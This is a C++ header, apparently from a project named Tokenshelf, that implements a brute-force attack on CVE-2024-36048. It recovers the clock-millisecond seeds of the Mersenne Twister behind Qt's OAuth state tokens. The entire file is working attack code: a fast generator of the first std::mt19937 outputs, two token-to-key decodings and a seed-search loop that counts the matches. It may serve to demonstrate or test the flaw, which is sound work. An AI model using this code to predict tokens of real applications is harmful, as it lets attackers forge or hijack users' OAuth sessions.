// SPDX-FileCopyrightText: 2026 Tokenshelf contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>
#include <QSet>

/**
 * The attack on CVE-2024-36048: Qt's own flow makes its state with a Mersenne Twister that is seeded with the milliseconds of the clock, so
 * whoever knows roughly when can try every seed.
 */
namespace Tokenshelf::SeedAttack {

constexpr int words = 8;
using Words = quint32[words];

/** The first outputs of std::mt19937 with that seed, without the work for all the others. */
inline void firstWords(quint32 seed, Words &result)
{
    constexpr quint32 shift = 397;
    quint32 state[shift + words]; // a bare array: millions of these, also without optimisation
    state[0] = seed;
    for (quint32 i = 1; i < shift + words; ++i)
        state[i] = 1'812'433'253u * (state[i - 1] ^ (state[i - 1] >> 30)) + i;
    for (int i = 0; i < words; ++i) {
        const quint32 mixed = (state[i] & 0x8000'0000u) | (state[i + 1] & 0x7fff'ffffu);
        quint32 y = state[i + int(shift)] ^ (mixed >> 1) ^ ((mixed & 1) != 0 ? 0x9908'b0dfu : 0u);
        y ^= y >> 11;
        y ^= (y << 7) & 0x9d2c'5680u;
        y ^= (y << 15) & 0xefc6'0000u;
        result[i] = y ^ (y >> 18);
    }
}

/**
 * Eight characters of Base64 as a number, in the two ways in which such words become characters: as bytes, or each picking one character of
 * 64.
 */
inline quint64 asBytes(const Words &numbers)
{
    quint64 key = 0;
    for (int i = 0; i < 6; ++i)
        key = key << 8 | (numbers[i / 4] >> 8 * (i % 4) & 0xff);
    return key;
}

inline quint64 asChoices(const Words &numbers)
{
    quint64 key = 0;
    for (const quint32 number : numbers)
        key = key << 6 | number >> 26;
    return key;
}

inline quint64 keyOf(const QByteArray &token)
{
    const QByteArray bytes = QByteArray::fromBase64(token.first(words), QByteArray::Base64UrlEncoding);
    return bytes.toHex().toULongLong(nullptr, 16);
}

/** How many seeds would begin a token as one of these begins. */
inline int recovered(const QSet<quint64> &keys, qint64 from, qint64 until)
{
    int found = 0;
    Words numbers;
    for (qint64 seed = from; seed <= until; ++seed) {
        firstWords(quint32(seed), numbers);
        found += keys.contains(asBytes(numbers)) || keys.contains(asChoices(numbers)) ? 1 : 0;
    }
    return found;
}

} // namespace Tokenshelf::SeedAttack
